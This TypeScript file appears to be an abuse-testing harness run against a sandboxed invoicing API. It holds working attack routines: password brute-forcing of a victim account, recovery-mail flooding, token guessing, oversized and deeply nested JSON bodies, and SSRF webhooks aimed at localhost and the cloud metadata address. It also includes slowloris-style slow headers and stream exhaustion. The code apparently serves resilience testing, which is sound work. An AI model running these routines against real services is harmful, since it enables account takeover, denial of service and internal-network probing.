import { randomUUID } from "node:crypto";
import { connect, type Socket } from "node:net";
import { api } from "@emita/contract/paths";
import { ATTACKERS_ADDRESS } from "./endpoints.ts";
import { bearer, during, many, pause, send, sendJson, type Target } from "./target.ts";

const FLOOD_MS = 10_000;
const STREAMS = 2_000;
const SLOW_SOCKETS = 500;
const WRONG_PASSWORDS = 597;

const json = { "content-type": "application/json" };
const post = (target: Target, path: string, body: object) =>
  send(target, path, { method: "POST", headers: json, body: JSON.stringify(body) });

/** Guesses at a victim's password. */
export async function wrongPasswords(target: Target): Promise<void> {
  await many(WRONG_PASSWORDS, 30, (index) =>
    post(target, "/auth/v1/token?grant_type=password", {
      email: target.victimEmail,
      password: `senha-errada-${index}`,
    }),
  );
}

/** New accounts, each with a password to be hashed. */
export async function signUps(target: Target): Promise<void> {
  await many(400, 30, () =>
    post(target, "/auth/v1/signup", {
      email: `robo-${randomUUID()}@exemplo.com.br`,
      password: "senha-de-robo",
    }),
  );
}

/** Mails to a victim who did not ask for them, and to unknown addresses. */
export async function recoveries(target: Target): Promise<void> {
  await many(600, 30, (index) =>
    post(target, "/auth/v1/recover", {
      email: index % 2 === 0 ? target.victimEmail : `ninguem-${index}@exemplo.com.br`,
    }),
  );
}

export async function healthChecks(target: Target): Promise<void> {
  await during(FLOOD_MS, 50, () => send(target, "/healthz"));
}

/** API tokens that were never issued. */
export async function guessedTokens(target: Target): Promise<void> {
  await during(FLOOD_MS, 30, () =>
    send(target, api.invoices, {
      headers: { authorization: `Bearer emita_live_${randomUUID().replaceAll("-", "")}` },
    }),
  );
}

/** The most expensive queries that one account may make. */
export async function expensiveSearches(target: Target): Promise<void> {
  const search = encodeURIComponent("a% _b".repeat(19));
  await during(FLOOD_MS, 20, () =>
    send(target, `${api.invoices}?search=${search}&limit=100&sort=-amount`, {
      headers: bearer(target),
    }),
  );
}

/** Bodies that are large, deep or of many keys, with and without an account. */
export async function hugeJson(target: Target): Promise<void> {
  const bodies = [
    JSON.stringify({ company_name: "a".repeat(1_000_000) }),
    "[".repeat(1_000_000),
    `{"a":`.repeat(170_000),
    JSON.stringify(Object.fromEntries(Array.from({ length: 60_000 }, (_, i) => [`k${i}`, i]))),
    JSON.stringify({ details: Array.from({ length: 300_000 }, () => 1) }),
    `{"amount":${"9".repeat(1_000_000)}}`,
  ];
  const paths = [api.invoices, api.invoicePreview, "/auth/v1/signup", "/auth/v1/token"];
  await many(120, 12, (index) =>
    sendJson(
      target,
      paths[Math.floor(index / bodies.length) % paths.length] ?? "",
      bodies[index % bodies.length],
    ),
  );
}

/** A webhook to our own ports and to the sandbox's control, and tests of it. */
export async function webhookInside(target: Target): Promise<void> {
  const own = new URL(target.url).port;
  const targets = [
    `http://127.0.0.1:${target.sandboxPort}/_control`,
    `http://localhost:${target.sandboxPort}/_control/reset`,
    `http://127.0.0.1:${own}/auth/v1/logout`,
    `https://[::1]:${own}/`,
    "http://169.254.169.254/latest/meta-data",
  ];
  await many(60, 4, async (index) => {
    const url = targets[index % targets.length];
    await sendJson(target, api.webhook, { url, secret: "um-segredo-bem-longo-de-robo" }, "PUT");
    await sendJson(target, api.webhookTest, {});
  });
}

/** Live streams of one account, left open. */
export async function eventStreams(target: Target): Promise<void> {
  const { authorization } = bearer(target);
  const lines = `GET ${api.events} HTTP/1.1\r\nhost: localhost\r\nauthorization: ${authorization}\r\n\r\n`;
  const sockets = await openMany(target, STREAMS, (socket) => socket.write(lines));
  await pause(FLOOD_MS);
  for (const socket of sockets) socket.destroy();
}

/** Headers that arrive one character at a time and never end. */
export async function slowHeaders(target: Target): Promise<void> {
  const sockets = await openMany(target, SLOW_SOCKETS, (socket) =>
    socket.write("GET / HTTP/1.1\r\nhost: localhost\r\nx-slow: "),
  );
  for (let waited = 0; waited < 2 * FLOOD_MS; waited += 500) {
    for (const socket of sockets) if (!socket.destroyed) socket.write("a");
    await pause(500);
  }
  for (const socket of sockets) socket.destroy();
}

async function openMany(
  target: Target,
  count: number,
  greet: (socket: Socket) => unknown,
): Promise<Socket[]> {
  const { hostname: host, port } = new URL(target.url);
  const sockets: Socket[] = [];
  await many(count, 50, async () => {
    const socket = connect({ host, port: Number(port), localAddress: ATTACKERS_ADDRESS });
    sockets.push(socket);
    socket.on("error", () => undefined);
    socket.resume();
    await new Promise((resolve) => {
      socket.once("connect", resolve);
      socket.once("close", resolve);
    });
    greet(socket);
  });
  return sockets;
}
